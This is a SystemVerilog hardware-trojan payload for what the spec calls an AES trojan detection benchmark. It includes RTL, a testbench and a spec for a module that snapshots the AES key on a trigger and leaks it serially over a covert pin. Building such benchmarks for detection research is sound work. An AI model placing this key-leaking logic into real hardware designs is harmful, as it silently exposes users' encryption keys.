// File: rtl/trojan_pkg.sv
// trojan_pkg: shared types and constants for the AES trojan payload blocks
package trojan_pkg;
    typedef enum logic [1:0] {IDLE, PRE, DATA, GAP} state_t;
    localparam int KEY_W = 128;
    localparam int PRE_W = 8;
    localparam logic [PRE_W-1:0] PREAMBLE_DEF = 8'hA5;
endpackage

// File: rtl/tj_bit_timer.sv
// tj_bit_timer: counts clocks within one serial bit and pulses wrap on the last one
module tj_bit_timer #(
    parameter int BIT_CYCLES = 4
) (
    input  logic clk,
    input  logic rst,
    input  logic en,
    output logic wrap
);
    localparam int W = BIT_CYCLES > 1 ? $clog2(BIT_CYCLES) : 1;
    logic [W-1:0] cnt;
    assign wrap = en && cnt == W'(BIT_CYCLES - 1);
    always_ff @(posedge clk) begin
        if (rst || wrap) cnt <= '0;
        else if (en) cnt <= cnt + W'(1);
    end
endmodule

// File: rtl/tj_key_leak_tx.sv
// tj_key_leak_tx: on trigger, snapshots the key and leaks it as framed serial bits
module tj_key_leak_tx
    import trojan_pkg::*;
#(
    parameter int               BIT_CYCLES = 4,
    parameter logic [PRE_W-1:0] PREAMBLE   = PREAMBLE_DEF,
    parameter int               REPEAT     = 2,
    parameter int               GAP_CYCLES = 16
) (
    input  logic             clk,
    input  logic             rst,
    input  logic             tj_trig,
    input  logic [KEY_W-1:0] key,
    output logic             leak_out,
    output logic             leak_active,
    output logic             frame_done
);
    state_t state, nxt_state;
    logic [KEY_W-1:0] shadow;
    logic [PRE_W-1:0] pre_sr;
    logic [2:0] pidx;
    logic [6:0] kidx;
    logic [15:0] frame_cnt, gap_cnt;
    logic armed, wrap, fire, pre_last, frame_end, gap_end, more, nxt_bit;

    tj_bit_timer #(.BIT_CYCLES(BIT_CYCLES)) u_timer (
        .clk (clk),
        .rst (rst),
        .en  (state == PRE || state == DATA),
        .wrap(wrap)
    );

    assign fire       = state == IDLE && tj_trig && armed;
    assign pre_last   = state == PRE && wrap && pidx == 3'd0;
    assign frame_end  = state == DATA && wrap && kidx == 7'd0;
    assign gap_end    = state == GAP && gap_cnt == 16'(GAP_CYCLES - 1);
    assign more       = (frame_cnt + 16'd1) < 16'(REPEAT);
    assign frame_done = frame_end;
    assign nxt_state  = (fire || gap_end) ? PRE : pre_last ? DATA :
                        frame_end ? (more ? GAP : IDLE) : state;
    // leak_out is loaded with the bit the next state will present
    assign nxt_bit = (fire || gap_end) ? PREAMBLE[PRE_W-1] :
                     pre_last ? shadow[KEY_W-1] :
                     state == PRE ? (wrap ? pre_sr[PRE_W-2] : pre_sr[PRE_W-1]) :
                     (state == DATA && !frame_end) ? (wrap ? shadow[kidx - 7'd1] : shadow[kidx]) :
                     1'b0;

    always_ff @(posedge clk) begin
        if (rst) begin
            state       <= IDLE;
            leak_out    <= 1'b0;
            leak_active <= 1'b0;
            shadow      <= '0;
            pre_sr      <= '0;
            pidx        <= '0;
            kidx        <= '0;
            frame_cnt   <= '0;
            gap_cnt     <= '0;
            armed       <= 1'b1;
        end else begin
            state       <= nxt_state;
            leak_out    <= nxt_bit;
            leak_active <= nxt_state != IDLE;
            if (fire) begin
                shadow    <= key;
                frame_cnt <= '0;
            end else if (frame_end) begin
                frame_cnt <= frame_cnt + 16'd1;
            end
            if (fire || gap_end) begin
                pre_sr <= PREAMBLE;
                pidx   <= 3'd7;
            end else if (state == PRE && wrap && pidx != 3'd0) begin
                pre_sr <= pre_sr << 1;
                pidx   <= pidx - 3'd1;
            end
            if (pre_last) kidx <= 7'd127;
            else if (state == DATA && wrap && kidx != 7'd0) kidx <= kidx - 7'd1;
            gap_cnt <= (state == GAP && !gap_end) ? gap_cnt + 16'd1 : 16'd0;
            // once a transmission completes, a low trigger is needed before another fire
            armed <= (frame_end && !more) ? 1'b0 : !tj_trig ? 1'b1 : armed;
        end
    end
endmodule

// File: tb/tb_tj_key_leak_tx.sv
// tb_tj_key_leak_tx: directed checks of the key leak transmitter in three configurations
module tb_tj_key_leak_tx;
    logic clk = 1'b0, rst = 1'b1;
    logic trig_a = 1'b0, trig_b = 1'b0, trig_c = 1'b0;
    logic [127:0] key_a = '0, key_b = '0, key_c = '0, kb0;
    logic lo_a, la_a, fd_a, lo_b, la_b, fd_b, lo_c, la_c, fd_c, lo, la, fd;
    logic [135:0] f1, f2;
    int sel = 0, checks = 0, passed = 0, errs, done_at, done_cnt, cnt;

    always #5 clk = ~clk;

    tj_key_leak_tx #(.BIT_CYCLES(4), .REPEAT(1), .GAP_CYCLES(16)) u_a (
        .clk(clk), .rst(rst), .tj_trig(trig_a), .key(key_a),
        .leak_out(lo_a), .leak_active(la_a), .frame_done(fd_a));
    tj_key_leak_tx #(.BIT_CYCLES(4), .REPEAT(2), .GAP_CYCLES(16)) u_b (
        .clk(clk), .rst(rst), .tj_trig(trig_b), .key(key_b),
        .leak_out(lo_b), .leak_active(la_b), .frame_done(fd_b));
    tj_key_leak_tx #(.BIT_CYCLES(1), .REPEAT(1), .GAP_CYCLES(16)) u_c (
        .clk(clk), .rst(rst), .tj_trig(trig_c), .key(key_c),
        .leak_out(lo_c), .leak_active(la_c), .frame_done(fd_c));

    assign lo = sel == 0 ? lo_a : sel == 1 ? lo_b : lo_c;
    assign la = sel == 0 ? la_a : sel == 1 ? la_b : la_c;
    assign fd = sel == 0 ? fd_a : sel == 1 ? fd_b : fd_c;

    task automatic check(input string tag, input logic [135:0] got, input logic [135:0] exp);
        checks++;
        if (got === exp) passed++;
        else $display("FAIL %s: got %0h expected %0h", tag, got, exp);
    endtask

    task automatic step;
        @(posedge clk);
        #1;
    endtask

    // starts on the cycle showing the first preamble bit, ends on the frame's last cycle
    task automatic capture(input int bc, output logic [135:0] frame, output int e,
                           output int d_at, output int d_cnt);
        frame = '0; e = 0; d_at = 0; d_cnt = 0;
        for (int i = 0; i < bc * 136; i++) begin
            if (i > 0) step();
            if (i % bc == 0) frame[135 - i / bc] = lo;
            else if (lo !== frame[135 - i / bc]) e++;
            if (la !== 1'b1) e++;
            if (fd === 1'b1) begin
                d_cnt++;
                d_at = i + 1;
            end
        end
    endtask

    initial begin
        #1_000_000;
        $display("FAIL watchdog: got timeout expected finish");
        $fatal(1, "timeout");
    end

    initial begin
        step(); step();
        check("rst_a", {lo_a, la_a, fd_a}, 3'b000);
        check("rst_b", {lo_b, la_b, fd_b}, 3'b000);
        check("rst_c", {lo_c, la_c, fd_c}, 3'b000);
        rst = 1'b0;
        step();

        sel = 0;
        key_a = 128'h000102030405060708090a0b0c0d0e0f;
        trig_a = 1'b1;
        step();
        trig_a = 1'b0;
        capture(4, f1, errs, done_at, done_cnt);
        check("a_frame", f1, {8'hA5, 128'h000102030405060708090a0b0c0d0e0f});
        check("a_hold", errs, 0);
        check("a_done_at", done_at, 544);
        check("a_done_cnt", done_cnt, 1);
        step();
        check("a_idle", {la, lo, fd}, 3'b000);

        sel = 1;
        key_b = 128'h0123456789abcdeffedcba9876543210;
        kb0 = key_b;
        trig_b = 1'b1;
        step();
        fork
            capture(4, f1, errs, done_at, done_cnt);
            begin
                repeat (288) @(posedge clk);
                key_b = '1;
            end
        join
        check("b_frame1", f1, {8'hA5, 128'h0123456789abcdeffedcba9876543210});
        check("b_hold1", errs, 0);
        cnt = 0;
        for (int i = 0; i < 16; i++) begin
            step();
            if (lo !== 1'b0 || la !== 1'b1) cnt++;
        end
        check("b_gap", cnt, 0);
        step();
        capture(4, f2, errs, done_at, done_cnt);
        check("b_frame2", f2, {8'hA5, kb0});
        check("b_hold2", errs, 0);
        check("b_done2", done_cnt, 1);
        cnt = 0;
        for (int i = 0; i < 600; i++) begin
            step();
            if (la !== 1'b0) cnt++;
        end
        check("b_no_third", cnt, 0);
        trig_b = 1'b0;
        step();
        trig_b = 1'b1;
        step();
        check("b_rearm", {la, lo}, 2'b11);
        trig_b = 1'b0;

        sel = 0;
        key_a = 128'hdeadbeef00112233cafef00d44556677;
        trig_a = 1'b1;
        step();
        repeat (99) step();
        rst = 1'b1;
        step();
        check("a_rst_mid", {lo_a, la_a, fd_a}, 3'b000);
        rst = 1'b0;
        step();
        check("a_refire", {la, lo}, 2'b11);
        capture(4, f1, errs, done_at, done_cnt);
        check("a_frame_after_rst", f1, {8'hA5, 128'hdeadbeef00112233cafef00d44556677});
        trig_a = 1'b0;

        sel = 2;
        key_c = 128'h80000000000000000000000000000001;
        trig_c = 1'b1;
        step();
        trig_c = 1'b0;
        capture(1, f1, errs, done_at, done_cnt);
        check("c_frame", f1, {8'hA5, 128'h80000000000000000000000000000001});
        check("c_last_bit", {lo, fd}, 2'b11);
        check("c_done_at", done_at, 136);
        check("c_done_cnt", done_cnt, 1);
        step();
        check("c_idle", la, 1'b0);

        trig_c = 1'b1;
        rst = 1'b1;
        step();
        check("c_rst_wins", {la_c, lo_c}, 2'b00);
        rst = 1'b0;
        step();
        check("c_fire_after_rst", {la, lo}, 2'b11);
        trig_c = 1'b0;

        $display("%0d/%0d checks passed", passed, checks);
        $finish;
    end
endmodule

// File: doc/tj_key_leak_tx.md
Name: tj_key_leak_tx

Overview:
- Payload end of the trojan trigger path in the AES trojan benchmark.
- Consumes the level trigger from the plaintext-pattern trigger and captures a snapshot of the 128-bit round key.
- Transmits the key as a framed serial bitstream on a single covert output pin, so the detection bench can confirm payload activation.
- Sits beside the AES core. It taps key and trigger only and never alters the cipher datapath.

Parameters:
- BIT_CYCLES, 4, clocks each serial bit is held on leak_out (>=1)
- PREAMBLE, 8'hA5, frame start pattern, sent MSB first
- REPEAT, 2, frames sent per trigger event (>=1)
- GAP_CYCLES, 16, idle clocks between repeated frames (>=1); leak_out=0 during the gap

Ports:
- clk  in  1  system clock, rising edge
- rst  in  1  reset: synchronous, active-high
- tj_trig  in  1  trigger level from the trojan trigger; may stay high indefinitely
- key  in  128  current AES key
- leak_out  out  1  serial covert bit
- leak_active  out  1  high while a frame or gap is in progress
- frame_done  out  1  one-cycle pulse on the last cycle of each frame's final bit

Behaviour:
- Reset: state=IDLE; leak_out=0, leak_active=0, frame_done=0; counters=0; armed=1.
- The trigger fires on the rising edge of (tj_trig & armed) as sampled in IDLE.
  - A fire happens when tj_trig=1, armed=1 and the state is IDLE.
  - After a full transmission, armed clears. It sets again only after tj_trig is sampled 0 for at least one cycle.
  - A constantly high trigger therefore yields exactly one transmission.
- At the fire cycle:
  - key is latched into a 128-bit shadow register.
  - The preamble shift register is loaded and frame_cnt=0.
  - The state goes to PRE on the next cycle.
  - Latency: first preamble bit appears on leak_out 1 cycle after tj_trig is sampled high.
- States:
  - IDLE: leak_out=0, leak_active=0.
  - PRE: 8 preamble bits, MSB first, each held BIT_CYCLES clocks. After bit 0 -> DATA.
  - DATA: shadow key bits 127 down to 0, each held BIT_CYCLES clocks.
    - On the last clock of bit 0, frame_done=1 and frame_cnt increments.
    - If frame_cnt+1 < REPEAT -> GAP; else -> IDLE with armed=0.
  - GAP: GAP_CYCLES clocks with leak_out=0, leak_active=1. Then -> PRE with the preamble reloaded.
    - The shadow key is NOT re-latched, so all repeats carry the same key.
- Frame length: (8+128)*BIT_CYCLES clocks. Total active time: REPEAT*frame length + (REPEAT-1)*GAP_CYCLES.
- Bit timer: counts 0..BIT_CYCLES-1 and wraps. Bit index advances on the wrap. With BIT_CYCLES=1 a new bit appears every cycle.
- Bit index widths:
  - 3 bits for the preamble, 7 bits for the key.
  - The index never wraps past 0; the state change takes precedence.
- leak_out is registered. leak_active is high in PRE, DATA and GAP, and is registered with the same timing as leak_out.
- Changes to tj_trig or key during PRE/DATA/GAP are ignored, apart from tj_trig=0 clearing the re-arm block.
- Reset mid-frame: on the next edge, the block returns to the reset values, the shadow key is cleared to 0, and armed=1.
- Simultaneous rst and tj_trig: rst wins; no fire.

Decomposition:
- Shared package trojan_pkg holds:
  - the state enum (IDLE, PRE, DATA, GAP);
  - localparam KEY_W=128 and PRE_W=8;
  - the default PREAMBLE constant.
- One sub-module, tj_bit_timer: a parameterised BIT_CYCLES counter with a wrap pulse output, reused per bit.
- Shift and FSM logic stay in the top module.

Test Plan:
- BIT_CYCLES=4, REPEAT=1, key=128'h000102030405060708090a0b0c0d0e0f, pulse tj_trig for one cycle:
  - leak_out shows A5 then the key MSB first, each bit held 4 clocks;
  - frame_done pulses once at cycle 544 after the fire;
  - leak_active then drops.
- REPEAT=2, GAP_CYCLES=16, tj_trig held high throughout:
  - two identical frames separated by 16 zero cycles;
  - no third frame;
  - dropping tj_trig then raising it again starts a new transmission.
- Change key to all-ones at the midpoint of DATA:
  - the remaining bits still follow the latched key;
  - a repeat frame is bit-identical to the first.
- Assert rst at cycle 100 of a frame:
  - next cycle leak_out=0, leak_active=0, frame_done=0;
  - tj_trig held high after reset fires immediately.
- BIT_CYCLES=1, key=128'h8000...0001: bits change every cycle; the first data bit is 1, followed by 126 zeros, then a final 1 coincident with frame_done.
- tj_trig and rst both high in the same cycle from IDLE: no transmission. One cycle later with rst low, transmission starts.
